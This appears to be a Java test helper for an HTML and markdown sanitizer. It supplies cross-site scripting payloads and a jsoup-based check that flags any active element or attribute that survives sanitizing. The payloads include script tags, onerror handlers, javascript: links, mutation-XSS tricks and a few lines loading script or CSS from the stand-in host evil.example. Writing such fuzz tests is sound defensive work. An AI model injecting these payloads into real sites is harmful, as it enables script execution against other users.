package org.rejoinder.text;

import java.util.Random;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Element;

/** What attackers write, and how to tell that none of it got through. */
final class HostileMarkup {

    private static final String[] CRUMBS = {
        "<b>",
        "</b>",
        "<p>",
        "</p>",
        "<a href=\"https://example.org/?a=b&c=d\">",
        "</a>",
        "<ul>",
        "<li>",
        "</ul>",
        "<blockquote>",
        "</blockquote>",
        "<pre>",
        "</pre>",
        "<h1>",
        "</h1>",
        "<table>",
        "<tr>",
        "<td>",
        "</table>",
        "<script>",
        "</script>",
        "<style>",
        "</style>",
        "<svg>",
        "<math>",
        "<img src=x onerror=alert(1)>",
        "<!--",
        "-->",
        "{{",
        "\n\n",
        "\n",
        "> ",
        "- ",
        "`",
        "```\n",
        "*",
        "_",
        "[",
        "](javascript:alert(1))",
        "](http://example.org)",
        "words",
        "&lt;",
        "&#x202e;",
        "\u0000",
        "\"",
        "'",
        "<",
        ">",
        "</",
        "<figure>",
        "<div>",
        "</div>",
        "<noscript>",
        "<textarea>",
        "<title>",
        "é\u0338"
    };

    private HostileMarkup() {}

    static Stream<String> payloads() {
        return Stream.concat(tags(), Stream.concat(quirks(), markdown()));
    }

    private static Stream<String> tags() {
        return Stream.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<img src=\"javascript:alert(1)\">",
                "<img src=data:text/html;base64,PHNjcmlwdD4=>",
                "<svg onload=alert(1)><script>alert(1)</script></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"jAvAsCrIpT:alert(1)\">x</a>",
                "<a href=\"java\nscript:alert(1)\">x</a>",
                "<a href=\"&#106;avascript:alert(1)\">x</a>",
                "<a href=\"\u0001javascript:alert(1)\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "<a href='https://example.org/' onclick='alert(1)' style='position:fixed'>x</a>",
                "<a href=\"https://example.org/\" target=_blank>x</a>",
                "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=\"javascript:alert(1)\"></object><embed src=x>",
                "<form action=\"javascript:alert(1)\"><button formaction=x>go</button></form>");
    }

    private static Stream<String> quirks() {
        return Stream.of(
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<textarea></textarea><img src=x onerror=alert(1)>",
                "<title><img src=x onerror=alert(1)></title>",
                "<style>@import 'http://evil.example/x.css';</style>",
                "<link rel=stylesheet href=//evil.example/x.css><base href=//evil.example/><meta http-equiv=refresh content=0>",
                "<div style=\"background:url(javascript:alert(1))\">x</div>",
                "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
                "<![CDATA[<img src=x onerror=alert(1)>]]>",
                "<p id=forms name=cookie onmouseover=alert(1)>x",
                "<details open ontoggle=alert(1)>x</details>",
                "<a href=\"https://example.org/\" class=\"button\" id=\"x\">x</a>",
                "<video><source onerror=alert(1)></video><audio src onerror=alert(1)>",
                "<b <script>alert(1)</script>0");
    }

    private static Stream<String> markdown() {
        return Stream.of(
                "[x](javascript:alert(1))",
                "[x](<javascript:alert(1)>)",
                "[x](java&#10;script:alert(1))",
                "[x](data:text/html;base64,PHNjcmlwdD4=)",
                "![x](javascript:alert(1))",
                "![\" onerror=\"alert(1)](https://example.org/x.png)",
                "<javascript:alert(1)>",
                "[x]: javascript:alert(1)\n\n[x]",
                "[x](https://example.org/ \"\\\" onmouseover=alert(1)\")",
                "```html\" onclick=\"alert(1)\n<script>alert(1)</script>\n```",
                "{{constructor.constructor('alert(1)')()}}",
                "http://example.org/\"onmouseover=\"alert(1)",
                "https://example.org/<script>alert(1)</script>");
    }

    /** Crumbs of markup strewn at random; the seed is in the name of the test that fails. */
    static String strewn(int seed) {
        var random = new Random(seed);
        var text = new StringBuilder();
        IntStream.range(0, 3 + random.nextInt(40)).forEach(i -> text.append(CRUMBS[random.nextInt(CRUMBS.length)]));
        return text.toString();
    }

    /** Reads the markup as a browser does and names the first thing in it that could run or fetch what it must not. */
    static String firstActive(SafeHtml html) {
        return Jsoup.parseBodyFragment(html.value()).body().getAllElements().stream()
                .filter(element -> !element.is("body"))
                .filter(HostileMarkup::isActive)
                .map(Element::outerHtml)
                .findFirst()
                .orElse("");
    }

    private static boolean isActive(Element element) {
        return element.is(
                        "script, style, svg, math, iframe, object, embed, form, input, button, textarea, base, link, meta, "
                                + "noscript, template, video, audio, source, title")
                || element.attributes().asList().stream()
                        .anyMatch(attribute -> attribute.getKey().startsWith("on")
                                || attribute
                                        .getKey()
                                        .matches("style|id|name|target|cite|srcset|srcdoc|formaction|action")
                                || (attribute.getKey().matches("href|src")
                                        && !attribute
                                                .getValue()
                                                .matches("(?is)(https?:|mailto:|[/.#?]|[\\w-]+([/.?#]|$)).*")));
    }
}
